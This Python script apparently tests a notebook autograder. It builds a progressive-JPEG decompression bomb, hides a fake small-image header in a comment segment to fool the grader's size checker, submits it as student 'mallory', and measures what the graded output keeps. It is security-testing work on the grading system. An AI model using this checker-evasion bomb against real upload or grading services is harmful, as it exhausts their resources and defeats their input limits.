"""a11: a02 + a10 together: a 12000 x 12000 progressive JPEG with its AC scan repeated 5,000 times, behind a02's
fill-byte header (the checker reads 16 x 16). Two images (one cell's 2 MB of outputs); a02b_browser.py on the page."""
import sys, base64, zlib, struct, io, time; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from lib import *
from a10_progressive_jpeg import bomb
from grader.feedback import image_size
from PIL import Image
SIDE, REP = int(sys.argv[1]), int(sys.argv[2])
data, acl, _ = bomb(SIDE, REP)
L = 0xFFFF; com = bytearray(L - 2)
off = 4 + ((0xFE << 8) | (L >> 8)) - 7
fake = b"\xff\xc0\x00\x11\x08\x00\x10\x00\x10\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
com[off:off + len(fake)] = fake
data = b"\xff\xd8\xff\xff\xfe" + struct.pack(">H", L) + bytes(com) + data[2:]
print("bytes", len(data), "scan bytes", acl, "checker", image_size("image/jpeg", base64.b64encode(data).decode()))
Image.MAX_IMAGE_PIXELS = None
t = time.time(); im = Image.open(io.BytesIO(data)); im.load(); print("Pillow", im.size, "decode s", round(time.time() - t, 1))
packed = base64.b64encode(zlib.compress(data, 9)).decode()
code = ('q1 = "b"\nimport base64, zlib\nfrom IPython.display import Image as _I, display as _d\n'
        f'_j = zlib.decompress(base64.b64decode("{packed}"))\n_d(_I(data=_j, format="jpeg"))\n_d(_I(data=_j, format="jpeg"))\n')
d = make_course("a11")
hand_in(d, "aaron", notebook())
hand_in(d, "mallory", notebook(overrides={"quiz_q1": code}))
hand_in(d, "zoe", notebook())
grade(d)
scores(d)
for where in (f"{d}/autograded/mallory/ps1_memory/ps1_memory.ipynb", f"{d}/feedback/mallory/ps1_memory/ps1_memory.html"):
    t = open(where).read()
    print(where, "size", len(t), "jpeg kept:", t.count("/9j/"), "not-shown notes:", t.count("not shown: at most"), "cut:", t.count("the grader cut"))
